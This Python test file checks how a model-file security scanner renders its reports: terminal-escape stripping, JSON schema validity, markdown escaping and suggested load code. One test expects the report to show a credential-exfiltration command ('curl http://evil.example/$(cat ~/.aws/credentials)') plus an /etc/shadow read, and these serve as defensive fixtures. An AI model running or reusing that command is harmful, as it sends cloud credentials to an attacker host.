"""Each format says what the report says, and no text in a report gets out of its place."""

from __future__ import annotations

import re
from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from safe_load import render as forms
from safe_load.core.report import (
    Finding,
    LeftAlone,
    Reader,
    Report,
    Reports,
    Run,
    decode,
    encode,
)
from safe_load.render import story
from safe_load.render.interface import Format, View
from safe_load.render.json import dump
from safe_load.render.markdown import cell

from dev import report_schema
from tests.unit import reports

ALL = [
    reports.clean(),
    reports.exported(),
    reports.malicious(),
    reports.not_loadable(),
    reports.hostile(),
]
# What no terminal may be sent: C0 but the line feed, DEL, C1, and the bidi and invisible controls.
STEERING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")


#: What stands for the verdict where a form has no word for it.
_VERDICTS = {"junit": "rejected", "gitlab": "blocker"}
IN_FULL = View(width=100, verbose=True)


def render(name: str, *given: Report, view: View | None = None) -> str:
    return forms.get(name, view).render(given).decode()


@pytest.mark.parametrize("name", forms.FORMATS)
def test_every_format_is_found_under_its_own_name(name: str) -> None:
    found = forms.get(name)
    assert isinstance(found, Format)
    assert found.name == name


@pytest.mark.parametrize("name", forms.FORMATS)
@pytest.mark.parametrize("count", [0, 1, 5])
def test_any_number_of_reports_renders_to_text_that_ends_in_a_line_feed(
    name: str, count: int
) -> None:
    assert render(name, *ALL[:count]).endswith("\n")


@pytest.mark.parametrize("name", forms.FORMATS)
def test_no_character_of_a_hostile_report_steers_the_terminal(name: str) -> None:
    assert STEERING.search(render(name, reports.hostile())) is None


@pytest.mark.parametrize("name", forms.FORMATS)
def test_a_file_name_that_is_not_utf8_renders_everywhere(name: str) -> None:
    found = Finding("SL602", "low", "\udc80\udcff", "", "\udcff")
    report = msgspec.structs.replace(reports.clean(), findings=[found], notes=["\udc80"])
    assert "\\udc80\\udcff" in render(name, report).replace("\\\\", "\\")


@pytest.mark.parametrize("name", [name for name in forms.FORMATS if name != "json"])
def test_a_reader_learns_the_verdict_and_what_was_found(name: str) -> None:
    page = render(name, reports.malicious(), view=IN_FULL)
    for said in ("SL101", "A program was executed", _VERDICTS.get(name, "malicious")):
        assert said in page


@pytest.mark.parametrize("name", ["human", "html", "markdown", "junit"])
def test_a_reader_learns_which_program_which_host_and_which_bytes(name: str) -> None:
    page = render(name, reports.malicious(), view=View(width=200, verbose=True))
    page = " ".join(page.replace("&#x27;", "'").split())
    assert "curl http://evil.example/$(cat ~/.aws/credentials)" in page
    assert "192.0.2.7" in page
    assert "GET /exfil?k=AKIA HTTP/1.1\\r\\nHost: evil.example" in page
    assert "/etc/shadow" in page


# --- human -----------------------------------------------------------------------------------


def test_the_first_line_is_the_verdict_with_the_tier() -> None:
    page = render("human", reports.clean("model-dir"))
    assert page.splitlines()[0] == "✓ clean  model-dir@4e1c1d2f9f   sandbox: native, tier A, 2.1 s"


def test_findings_come_worst_first() -> None:
    page = render("human", reports.malicious(), view=IN_FULL)
    order = re.findall(r"^  (critical|high|medium|low) ", page, re.MULTILINE)
    assert order == ["critical", "critical", "high", "medium", "low"]


@pytest.mark.parametrize("width", [40, 80, 120])
def test_no_line_but_of_code_is_wider_than_the_terminal(width: int) -> None:
    page = render("human", *ALL, view=View(width=width))
    # Code that is folded does not run when it is copied.
    rest = re.sub(r"^Use it\n(?:  .*\n?)+", "", page, flags=re.MULTILINE)
    assert max(len(line) for line in rest.splitlines()) <= width


def test_colour_is_only_sent_to_a_terminal() -> None:
    assert "\x1b[" in render("human", reports.malicious(), view=View(color=True))
    assert "\x1b" not in render("human", reports.malicious(), view=View(color=False))


def test_coloured_output_holds_no_escape_but_its_own_colours() -> None:
    page = render("human", reports.hostile(), view=View(color=True))
    assert STEERING.search(re.sub(r"\x1b\[[0-9;]*m", "", page)) is None


def test_rich_markup_in_a_report_is_plain_text() -> None:
    assert "[bold red]x[/]" in render("human", reports.hostile(), view=View(width=400))


def test_an_exported_model_comes_with_the_line_that_uses_it() -> None:
    assert 'AutoModel.from_pretrained("cleared")' in render("human", reports.exported())


def test_brief_output_is_a_line_for_each_source_and_one_for_all() -> None:
    page = render("human", reports.clean(), reports.clean("b"), view=View(brief=True))
    assert page.splitlines()[1:] == [
        "✓ clean  b@4e1c1d2f9f   sandbox: native, tier A, 2.1 s",
        "2 sources: 2 clean",
    ]


def test_a_load_that_could_not_be_judged_is_never_shown_as_clean() -> None:
    broken = msgspec.structs.replace(reports.clean(), outcome="sandbox_error")
    assert render("human", broken).startswith("✗ sandbox error")


def test_a_thousand_findings_do_not_scroll_the_verdict_away() -> None:
    many = [Finding("SL401", "low", f"number {n}", "x" * 9000) for n in range(1000)]
    report = msgspec.structs.replace(reports.clean(), findings=many)
    page = render("human", report, view=IN_FULL)
    assert len(page.splitlines()) < 600
    assert "and 950 more" in page
    assert len(render("human", report).splitlines()) < 60


# --- json ------------------------------------------------------------------------------------


def test_json_is_the_report_for_one_source_and_a_summary_with_a_list_for_several() -> None:
    assert decode(forms.get("json").render([reports.malicious()])) == reports.malicious()
    given = Reports([reports.clean(), reports.malicious()], [LeftAlone("by --exclude", 2, ["a"])])
    run = msgspec.json.decode(forms.get("json").render(given), type=Run)
    assert [report.verdict for report in run.reports] == ["clean", "malicious"]
    assert (run.exit_code, run.sources) == (1, {"clean": 1, "malicious": 1})
    assert run.left_alone == given.left_alone


def test_json_keeps_hostile_text_exactly() -> None:
    assert decode(forms.get("json").render([reports.hostile()])) == reports.hostile()


@settings(deadline=None)
@given(st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
def test_escaping_for_the_terminal_never_changes_what_json_means(value: object) -> None:
    assert msgspec.json.decode(dump(value)) == value
    assert STEERING.search(dump(value).decode()) is None


@pytest.mark.parametrize("report", ALL, ids=lambda report: report.outcome)
def test_every_report_is_valid_by_the_shipped_schema(report: Report) -> None:
    from jsonschema import Draft202012Validator

    schema = report_schema.schema()
    Draft202012Validator.check_schema(schema)
    Draft202012Validator(schema).validate(msgspec.json.decode(encode(report)))
    several = forms.get("json").render([report, reports.clean()])
    Draft202012Validator(schema).validate(msgspec.json.decode(several))


def test_the_schema_refuses_what_is_no_report() -> None:
    from jsonschema import Draft202012Validator

    plain = msgspec.json.decode(encode(reports.clean()))
    validator = Draft202012Validator(report_schema.schema())
    for wrong in (
        {**plain, "verdict": "fine"},
        {**plain, "schema": "safe-load/report/2"},
        {key: value for key, value in plain.items() if key != "sandbox"},
    ):
        assert not validator.is_valid(wrong)


def test_the_committed_schema_is_the_one_that_the_types_make() -> None:
    import safe_load

    committed = Path(safe_load.__path__[0]) / "core" / "report.schema.json"
    assert committed.read_bytes() == report_schema.text()


def test_every_field_is_described_in_the_schema_and_in_the_docs() -> None:
    docs = (Path(__file__).parents[3] / "docs" / "report.md").read_text("utf-8")
    for name, definition in report_schema.schema()["$defs"].items():
        for field, described in definition["properties"].items():
            assert described.get("description"), f"{name}.{field}"
            assert f"`{field}`" in docs, f"{name}.{field}"


# --- markdown --------------------------------------------------------------------------------


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from("`` \\|[]()<>@:/!*_#-.abc1\n\t&\u202e")) | st.text())
def test_hostile_markdown_stays_in_one_code_span(text: str) -> None:
    shown = cell(text)
    assert "\n" not in shown
    if not shown.startswith("`"):
        assert re.fullmatch(r"[A-Za-z][A-Za-z0-9 ,'-]*", shown)
        return
    fence = re.match(r"`+", shown)
    assert fence is not None
    inner = shown[len(fence[0]) : -len(fence[0])]
    assert shown.endswith(fence[0])
    # CommonMark 6.1: a span ends at the first run of exactly as many backticks as opened it.
    assert all(run != fence[0] for run in re.findall(r"`+", inner))
    assert not inner.startswith("`")
    assert not inner.endswith("`")


@pytest.mark.parametrize(
    ("reader", "called"),
    [
        ("transformers", "AutoModel.from_pretrained("),
        ("diffusers-pipeline", "DiffusionPipeline.from_pretrained("),
        ("diffusers-model", "AutoModel.from_pretrained("),
        ("sentence-transformers", "SentenceTransformer("),
        ("open_clip", "open_clip.create_model("),
        ("timm", "timm.create_model("),
        ("peft", "PeftModel.from_pretrained(base, "),
        ("lora", "pipeline.load_lora_weights("),
        (None, "load_file("),
    ],
)
def test_a_copy_is_loaded_by_the_library_that_it_is_for(reader: Reader | None, called: str) -> None:
    report = reports.exported('out/of "here" {0}')
    assert report.export is not None
    export = msgspec.structs.replace(report.export, reader=reader)
    code = "\n".join(story.next_step(msgspec.structs.replace(report, export=export)))
    compile(code, "use", "exec")
    assert called in code
    assert r"out/of \"here\" {0}" in code


def test_the_first_and_the_last_name_are_told() -> None:
    page = forms.get("human", View(width=200)).render([reports.clean()]).decode()
    assert re.search(r"names +bert\.embeddings\.weight … cls\.bias", page)
